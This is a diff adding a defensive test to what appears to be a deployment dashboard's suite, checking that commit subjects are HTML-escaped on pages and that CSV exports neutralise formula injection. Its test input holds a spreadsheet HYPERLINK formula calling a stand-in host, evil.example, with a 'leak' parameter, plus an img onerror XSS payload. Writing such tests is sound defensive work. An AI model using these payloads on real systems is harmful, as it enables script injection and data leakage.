@@ -5,6 +5,8 @@ the event stream announces changes, the audit window and its exports, and no sec
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 import shutil
 import ssl
@@ -310,6 +312,26 @@ def test_audit_window_grouping_permalink_and_exports(board: Any) -> None:
     assert all(",db," in line for line in lines[1:])
     # an empty window in the past
     assert "Nothing happened" in client.get("/ui/audit?window=2001-01-01+09:00-10:00").text
+
+
+def test_a_hostile_commit_subject_is_text_on_every_page_and_in_the_export(board: Any, git_repo: GitRepo) -> None:
+    """Whoever can push writes commit subjects: markup in one stays text on the pages, and a subject
+    that a spreadsheet would run as a formula is exported with a leading apostrophe."""
+    base, engine, *_ = board
+    subject = '=HYPERLINK("http://evil.example/?leak","open") <img src=x onerror=alert(1)>'
+    git_repo.commit({"db/db.yaml": yaml.safe_dump([item("StatefulSet", "db", replicas=3)])}, subject)
+    engine.reconcile("db")
+    client = login(base, ADMIN_TOKEN)
+    for path in ("/ui/", "/ui/?fragment=1", "/ui/targets/db", "/ui/audit?window=today"):
+        body = client.get(path).text
+        assert "<img src=x" not in body, path
+        assert "&lt;img src=x onerror=alert(1)&gt;" in body, path
+    today = datetime.now().strftime("%Y-%m-%d")
+    export = client.get(f"/ui/audit.csv?window={today}&target=db").text
+    rows = list(csv.DictReader(io.StringIO(export)))
+    subjects = {row["subject"] for row in rows if row["subject"]}
+    assert "'" + subject in subjects, subjects
+    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values() if value)
 
 
 def test_no_secret_on_any_page_or_export(board: Any, git_repo: GitRepo) -> None:
